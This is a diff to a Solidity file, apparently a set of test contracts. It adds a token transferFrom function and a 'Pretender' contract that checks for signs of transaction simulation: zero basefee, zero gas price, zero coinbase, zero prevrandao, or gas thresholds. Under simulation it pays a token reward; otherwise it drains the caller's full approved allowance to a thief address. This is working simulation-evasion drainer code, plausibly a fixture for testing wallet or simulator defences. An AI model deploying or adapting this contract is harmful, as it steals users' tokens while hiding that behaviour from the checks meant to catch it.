@@ -39,6 +39,15 @@ contract Token {
         }
         return true;
     }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        require(allowance[from][msg.sender] >= value && balanceOf[from] >= value, "too little");
+        allowance[from][msg.sender] -= value;
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        emit Transfer(from, to, value);
+        return true;
+    }
 }
 
 // The same effects with other code.
@@ -148,5 +157,39 @@ contract Chatter {
                 log0(0, 0)
             }
         }
+    }
+}
+
+// Pays a reward if it believes that it is simulated, and otherwise takes all that it is allowed to take.
+contract Pretender {
+    Token private token;
+    address private thief;
+    uint256 private sign;
+    uint256 private low;
+    uint256 private high;
+
+    function pretend(Token what, address to, uint256 by) external {
+        (token, thief, sign) = (what, to, by);
+    }
+
+    // Takes only if the gas left is between these.
+    function lurk(uint256 from, uint256 to) external {
+        (low, high) = (from, to);
+    }
+
+    function claim() external {
+        if (isWatched()) token.transfer(msg.sender, 1);
+        else token.transferFrom(msg.sender, thief, token.allowance(msg.sender, address(this)));
+    }
+
+    function isWatched() private view returns (bool) {
+        if (sign == 0) return block.basefee == 0;
+        if (sign == 1) return tx.gasprice == 0;
+        if (sign == 2) return block.coinbase == address(0);
+        if (sign == 3) return block.prevrandao == 0;
+        if (sign == 4) return gasleft() > 10_000_000;
+        if (sign == 5) return gasleft() > 300_000;
+        if (sign == 6) return block.basefee == 0 && gasleft() > 10_000_000;
+        return gasleft() < low || gasleft() > high;
     }
 }
